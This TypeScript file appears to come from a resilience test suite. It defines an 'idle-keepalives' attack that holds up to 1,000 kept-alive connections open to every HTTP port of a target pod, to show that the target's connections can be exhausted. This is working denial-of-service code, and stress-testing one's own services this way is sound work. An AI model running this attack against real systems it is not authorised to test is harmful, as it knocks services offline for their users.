import type { Row } from '../row.ts';
import { httpPorts, keepOpen, openSocket } from '../sockets.ts';

/** A daemon once took 64; it takes more from one address now. */
const CONNECTIONS = 1_000;
const PER_SECOND = 500;
/** Often enough that no connection is idle. */
const REQUEST_EVERY_MS = 4_000;
const REQUEST = 'GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n';

/** Row 5. */
export const IDLE_KEEPALIVES: Row = {
  name: 'idle-keepalives',
  does: 'A pod holds all connections that it can to every HTTP port, with a request now and then on each.',
  quick: true,
  seconds: { quick: 5, full: 60 },
  async attack(target, stop) {
    const attacks = httpPorts(target).map(({ host, port }) =>
      keepOpen(
        CONNECTIONS,
        PER_SECOND,
        () => {
          const socket = openSocket(host, port);
          const timer = setInterval(() => socket.write(REQUEST), REQUEST_EVERY_MS);
          socket.once('connect', () => socket.write(REQUEST)).once('close', () => clearInterval(timer));
          return socket;
        },
        stop,
      ),
    );
    const opened = await Promise.all(attacks);
    return { opened: opened.reduce((sum, each) => sum + each, 0) };
  },
  isProof: ({ opened = 0 }) => opened > 500,
};
